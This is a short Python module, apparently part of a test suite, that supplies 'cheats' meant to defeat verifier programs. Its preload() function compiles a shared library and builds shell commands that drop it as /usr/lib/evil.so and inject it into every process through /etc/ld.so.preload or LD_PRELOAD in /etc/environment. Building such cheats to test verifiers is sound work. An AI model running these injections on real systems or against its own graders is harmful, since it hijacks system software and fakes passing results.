"""Cheats against the programs of verifiers, from `cheats.toml`, and those that need a library."""

import base64
import subprocess
import tempfile
import tomllib
from collections.abc import Mapping
from functools import cache
from pathlib import Path

CHEATS: Mapping[str, str] = tomllib.loads(Path(__file__).with_suffix(".toml").read_text())
"""Shell scripts, by name."""


@cache
def preload() -> Mapping[str, str]:
    """Returns the cheats with a library, compiled here."""
    source = Path(__file__).with_name("preload.c")
    with tempfile.TemporaryDirectory() as directory:
        library = Path(directory, "a.so")
        options = ("-nostdlib", "-shared", "-fPIC", "-Os", "-s", "-Wl,-n")
        subprocess.run(["gcc", *options, "-o", str(library), str(source)], check=True)
        text = base64.b64encode(library.read_bytes()).decode()
    planted = f"echo {text} | base64 -d > /usr/lib/evil.so; chmod +x /usr/lib/evil.so"
    return {
        "ld.so.preload": f"{planted}; echo /usr/lib/evil.so > /etc/ld.so.preload",
        "LD_PRELOAD in /etc/environment": f"{planted}\n"
        "echo LD_PRELOAD=/usr/lib/evil.so >> /etc/environment",
    }
